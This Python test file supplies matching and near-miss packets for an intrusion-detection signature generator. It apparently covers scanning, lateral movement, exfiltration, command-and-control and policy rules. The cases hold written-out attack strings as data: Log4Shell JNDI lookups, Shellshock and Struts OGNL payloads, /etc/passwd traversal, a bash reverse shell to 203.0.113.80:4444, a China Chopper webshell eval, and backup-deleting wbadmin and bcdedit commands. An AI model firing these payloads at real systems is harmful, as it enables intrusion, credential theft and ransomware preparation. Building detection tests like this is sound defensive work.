# SPDX-License-Identifier: Apache-2.0
"""Cases of signatures on protocols' buffers, for make_signatures.py: what the tool sends, and what
comes near (sessions.py makes the bytes)."""
from sessions import page, query, request, response, rpc, snmp_get, tls, tls_from

OUTSIDE = "203.0.113.80"


def wide(text):
    return text.encode("utf-16-le")


def scan(talk, asks):
    nuclei = "%s - Open-source project (github.com/projectdiscovery/nuclei)"
    talk(9100020, page("GET /", User_Agent=nuclei % "Nuclei"), page("GET /", User_Agent=nuclei % "Nuclear"),
         port=80)
    talk(9100021, page("GET /", X_Api_Version="${jndi:ldap://203.0.113.9:1389/a}"),
         page("GET /", X_Api_Version="$jndi:ldap://203.0.113.9:1389/a"), port=8080)
    talk(9100022, page("GET /?x=${jndi:ldap://203.0.113.9:1389/a}"), page("GET /?x=jndi:ldap"), port=8080)
    talk(9100023, page("GET /cgi-bin/status", User_Agent="() { :;}; /bin/id"),
         page("GET /cgi-bin/status", User_Agent="() => { return 1 };"), port=80)
    ognl = "%%{(#a='multipart/form-data').(#dm=@%s.OgnlContext@DEFAULT_MEMBER_ACCESS)}"
    talk(9100024, page("POST /struts2/index.action", b"x", Content_Type=ognl % "ognl"),
         page("POST /struts2/index.action", b"x", Content_Type=ognl % "ogml"), port=8080)
    form = b"class.module.class%soader.resources.context.parent.pipeline.first.suffix=.jsp"
    talk(9100025, page("POST /app", form % b"L"), page("POST /app", form % b"R"), port=8080)
    proxy = "GET /autodiscover/autodiscover.json?@example.net/%s/?X-Rps-CAT=x&Email=autodiscover"
    talk(9100026, page(proxy % "powershell"), page(proxy % "owa"), port=80)
    talk(9100027, page("GET /cgi-bin/../../../../etc/passwd"), page("GET /docs/etc/passwd"), port=80)
    unit = "POST /vendor/phpunit/phpunit/src/Util/PHP/eval-std%s.php"
    talk(9100028, page(unit % "in", b"<?php 1;"), page(unit % "out", b"<?php 1;"), port=80)
    server = ("<", b"SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n")
    talk(9100029, [server, (">", b"SSH-2.0-Nmap-SSH2-Hostkey\r\n")],
         [server, (">", b"SSH-2.0-Map-SSH2-Hostkey\r\n")], port=22)
    asks(9100030, b"\x17\x00\x03\x2a" + bytes(4), b"\x17\x00\x03\x2b" + bytes(4), dport=123)
    sip = (b"OPTIONS sip:%s SIP/2.0\r\nVia: SIP/2.0/TCP nm;branch=foo\r\nFrom: <sip:nm@nm>;tag=root\r\n"
           b"To: <sip:nm2@nm2>\r\nCall-ID: 50000\r\nCSeq: 42 OPTIONS\r\nContent-Length: 0\r\n")
    asks(9100031, sip % b"nm" + b"\r\n", sip % b"no" + b"\r\n", dport=5060)
    asks(9100032, sip % b"100" + b"User-Agent: friendly-scanner\r\n\r\n",
         sip % b"100" + b"User-Agent: friendly-phone\r\n\r\n", dport=5060)
    talk(9100033, page("GET /nice%20ports%2C/Tri%6Eity.txt%2ebak"), page("GET /nice%20ports%2C/Trinity.txt"),
         port=80)


def lateral(talk, smb2):
    for sid, right, wrong in (
            (9110010, "PAExec-4711-WS1.exe", "PAExit-4711-WS1.exe"), (9110011, "csexecsvc.exe", "csexsvc.exe"),
            (9110013, "BTOBTO", "BTOB"), (9110027, "backup\\ntds.dit", "backup\\ntds.txt"),
            (9110028, "Temp\\lsass_412.dmp", "Temp\\lsass_412.txt"),
            (9130012, "MSSE-1342-server", "MSSE-1342-client"), (9130013, "postex_a1b2", "posted_a1b2"),
            (9130014, "msagent_8f", "myagent_8f"), (9140010, "akira_readme.txt", "akira_read.txt"),
            (9140011, "budget.xlsx.akira", "budget.xlsx.akita"),
            (9140012, "!!!READ_ME_MEDUSA!!!.txt", "READ_ME_MEDUSA.txt"),
            (9140013, "HOW_TO_DECRYPT.txt", "HOW_TO_ENCRYPT.txt"), (9140014, "budget.xlsx.basta", "pasta.xlsx"),
            (9140015, "ClopReadMe.txt", "ShopReadMe.txt"), (9140016, "DECRYPT-FILES.txt", "DECRYPT-FILE.txt"),
            (9140017, "INC-README.txt", "INC-READ.txt")):
        talk(sid, smb2(wide(right)), smb2(wide(wrong)))
    task = "<Arguments>/C whoami &gt; %s\\Temp\\aBcDeFgH.tmp 2&gt;&amp;1</Arguments>"
    talk(9110012, wide(task % "%windir%"), wide(task % "D:"), port=49667)
    for sid, text, near in ((9140018, "wbadmin delete catalog -quiet", "wbadmin get versions"),
                            (9140019, "bcdedit /set {default} recoveryenabled no",
                             "bcdedit /set {default} recoveryenabled yes")):
        talk(sid, wide(text), wide(near), port=49667)
    unc = bytes(12) + wide("\\\\10.1.0.66\\share\\x")
    local = bytes(12) + wide("C:\\share\\x")
    drsuapi, netlogon = "e3514235-4b06-11d1-ab04-00c04fc2dcd2", "12345678-1234-abcd-ef00-01234567cffb"
    spoolss, netdfs = "12345678-1234-abcd-ef00-0123456789ab", "4fc742e0-4a10-11cf-8273-00aa004ae673"
    fssagent, svcctl = "a8e0653c-2744-4389-a61d-7373df8b2292", "367abb81-9844-35f1-ad32-98f038001003"
    winreg = "338cd001-2244-31f1-aaaa-900038001003"
    zero = wide("DC1$\0") + bytes(8) + b"\xff\xff%c\x21"
    for sid, uuid, op, stub, near_op, near_stub in (
            (9110014, drsuapi, 3, bytes(64), 1, bytes(64)),
            (9110015, netlogon, 26, zero % 0x2F, 26, zero % 0x6F),
            (9110016, spoolss, 89, unc, 89, local), (9110017, spoolss, 65, unc, 65, local),
            (9110018, netdfs, 13, unc, 15, unc), (9110019, fssagent, 9, unc, 1, unc),
            (9110020, svcctl, 12, bytes(20) + wide("abcd\0%COMSPEC% /Q /c echo dir"), 12,
             bytes(20) + wide("abcd\0C:\\Program Files\\a.exe")),
            (9110021, svcctl, 12, bytes(20) + wide("abcd\0powershell -enc JABh"), 12,
             bytes(20) + wide("abcd\0C:\\power\\shell.exe")),
            (9110022, winreg, 20, bytes(40), 17, bytes(40))):
        version = {drsuapi: 4, netdfs: 3, svcctl: 2}.get(uuid, 1)
        talk(sid, rpc(uuid, op, stub, version), rpc(uuid, near_op, near_stub, version), port=49667)
    peek = (b"\0\0\0\x4a\xffSMB\x25" + bytes(27), b"\0\0\0\x23\xffSMB%%\x05\x02%b\xc0" + bytes(26))
    talk(9110023, [(">", peek[0]), ("<", peek[1] % b"\0")], [(">", peek[0]), ("<", peek[1] % b"\x01")])
    mcs = b"\x03\0\0\x50\x02\xf0\x80\x7f\x65\x82" + bytes(30) + b"\x03\xc0\x14\0\x01\0\0\0%b\0" + bytes(8)
    talk(9110024, mcs % b"MS_T120", mcs % b"rdpsnd\0", port=3389)
    for_ruby = {"Content_Type": "application/soap+xml;charset=UTF-8"}
    talk(9110025, page("POST /wsman", b"<s/>", User_Agent="Ruby WinRM Client (2.8.3, ruby 3.1.2)", **for_ruby),
         page("POST /wsman", b"<s/>", User_Agent="Microsoft WinRM Client", **for_ruby), port=5985)
    ask = b"\0\0\0\x28NTLMSSP\0\x01\0\0\0" + bytes(24)
    challenge = b"\0\0\0\x40NTLMSSP\0\x02\0\0\0" + bytes(8) + b"\x05\x82\x89\xa2%b" + bytes(32)
    talk(9110026, [(">", ask), ("<", challenge % bytes.fromhex("1122334455667788"))],
         [(">", ask), ("<", challenge % bytes.fromhex("1122334455667789"))])


def exfil(talk, asks):
    for sid, right, wrong in (
            (9120010, "g.api.mega.nz", "omega.nz"), (9120011, "g.api.mega.co.nz", "mega.net.nz"),
            (9120012, "store1.gofile.io", "gofile.io.example.net"), (9120013, "file.io", "profile.io"),
            (9120014, "transfer.sh", "transfer.shop"), (9120015, "api.telegram.org", "web.telegram.org"),
            (9120016, "webhook.site", "webhooks.site"), (9150010, "relay-1.net.anydesk.com", "anydesk.com"),
            (9150011, "router1.teamviewer.com", "teamviewer.net"), (9150013, "tunnel.ngrok.com", "grok.com"),
            (9150014, "region1.v2.argotunnel.com", "tunnel.com"), (9150015, "login.tailscale.com", "scale.com")):
        talk(sid, tls(right), tls(wrong), OUTSIDE, 443)
    sent = {"Content_Type": "application/octet-stream"}
    talk(9120017, page("PUT /a", b"7z\xbc\xaf\x27\x1c\0\x04" + bytes(60), **sent),
         page("PUT /a", b"7z\xbc\xaf\x27\x1d\0\x04" + bytes(60), **sent), OUTSIDE, 80)
    talk(9120018, page("POST /a", b"MDMP\x93\xa7\0\0" + bytes(60), **sent),
         page("POST /a", b"PMDM\x93\xa7\0\0" + bytes(60), **sent), OUTSIDE, 80)


def c2(talk, asks):
    def answered(sid, right, wrong, port=80):
        talk(sid, [(">", request("GET /")), ("<", right)], [(">", request("GET /")), ("<", wrong)], OUTSIDE,
             port)

    answered(9130015, response(X_Havoc="true"), response(X_Havoc="false"))
    answered(9130016, response(Server="NetDNA-cache/2.2"), response(Server="NetDNA-cache/2.20"))
    old = "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko"
    talk(9130017, page("GET /login/process.php", Cookie="session=QmFzZTY0", User_Agent=old),
         page("GET /login/process.php", Cookie="session=QmFzZTY0", User_Agent="Mozilla/5.0"), OUTSIDE, 80)
    for sid, issuer, subject, near in (
            (9130018, "Major Cobalt Strike", "Major Cobalt Strike", "Minor Cobalt"),
            (9130019, "Covenant", "Covenant", "Coven"), (9130020, "MetasploitSelfSignedCA", "localhost", "CA"),
            (9130021, "DcRat Server", "DcRat", "DcCat Server"), (9130022, "BitRAT", "BitRAT", "BitCAT")):
        talk(sid, tls_from(issuer, subject), tls_from(near, near), OUTSIDE, 443)
    for sid, tld in ((9130023, "pro"), (9130024, "fun"), (9130025, "live")):
        asks(sid, query(f"c23b2la0kl1krjcrdj10.oast.{tld}"), query(f"c23b2la0kl1krjcrdj10.toast.{tld}"))
    shell = "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.1"
    talk(9130026, page("GET /a/tool.ps1", User_Agent=shell), page("GET /a/tool.json", User_Agent=shell),
         OUTSIDE, 80)
    talk(9130027, page("GET /a.txt", User_Agent="CertUtil URL Agent"),
         page("GET /a.txt", User_Agent="Microsoft-CryptoAPI/10.0"), OUTSIDE, 80)
    for sid, agent in ((9130028, "Microsoft BITS/7.8"), (9130029, "curl/8.4.0")):
        talk(sid, page("GET /a.exe", User_Agent=agent, Host="203.0.113.80"),
             page("GET /a.exe", User_Agent=agent, Host="update.example.net"), OUTSIDE, 80)
    program = b"MZ\x90\0" + bytes(74) + b"This program cannot be run in DOS mode.\r\r\n$" + bytes(40)
    answered(9130030, response(program, Content_Type="image/png"),
             response(program, Content_Type="application/x-dosexec"))
    socket = {"Upgrade": "websocket", "Connection": "Upgrade", "Sec_WebSocket_Version": "13"}
    talk(9130031, page("GET /", Sec_WebSocket_Protocol="chisel-v3", **socket),
         page("GET /", Sec_WebSocket_Protocol="chat-v3", **socket), OUTSIDE, 80)
    talk(9130032, b"bash -i >& /dev/tcp/203.0.113.80/4444 0>&1\n", b"bash -c 'cat /dev/tcp/x'\n", OUTSIDE, 4445)
    chopper = b"x=@eval(base64_decode($_POST[%b]));&%b=QGluaV9zZXQo"
    talk(9130033, page("POST /a.php", chopper % (b"z0", b"z0")), page("POST /a.php", chopper % (b"y0", b"y0")),
         port=80)


def policy(talk, asks):
    asks(9150012, query("rs-ny.rustdesk.com"), query("rust.example.com"))
    asks(9150016, query("duckduckgogg42xjoc72x3sjasowoarfbgcmvfimaftt6twagswzczad.onion"),
         query("onion.example.net"))
    asks(9150023, query("wpad.corp.example"), query("pad.corp.example"))
    talk(9150017, page("GET /tor/status-vote/current/consensus.z"), page("GET /tor/status-vote/next/x"),
         OUTSIDE, 80)
    old = (b"\0\0\0\x23\xffSMB\x73" + bytes(27), b"\0\0\0\x23\xffSMB\x73%b\0\0\0\x88" + bytes(26))
    talk(9150018, [(">", old[0]), ("<", old[1] % b"\0")], [(">", old[0]), ("<", old[1] % b"\x6d")])
    hello = ("<", b"220 ftp ready\r\n")
    talk(9150019, [hello, (">", b"USER ann\r\n"), ("<", b"331 ?\r\n"), (">", b"PASS secret\r\n")],
         [hello, (">", b"USER ftp\r\n"), ("<", b"331 ?\r\n"), (">", b"PASS anonymous@\r\n")], port=21)
    talk(9150020, page("GET /", Authorization="Basic YW5uOnNlY3JldA=="),
         page("GET /", Authorization="Negotiate YIIB"), port=80)
    asks(9150021, snmp_get("public"), snmp_get("publics"), dport=161)
    asks(9150022, snmp_get("private"), snmp_get("privates"), dport=161)


def add(talk, asks, smb2):
    scan(talk, asks)
    lateral(talk, smb2)
    exfil(talk, asks)
    c2(talk, asks)
    policy(talk, asks)
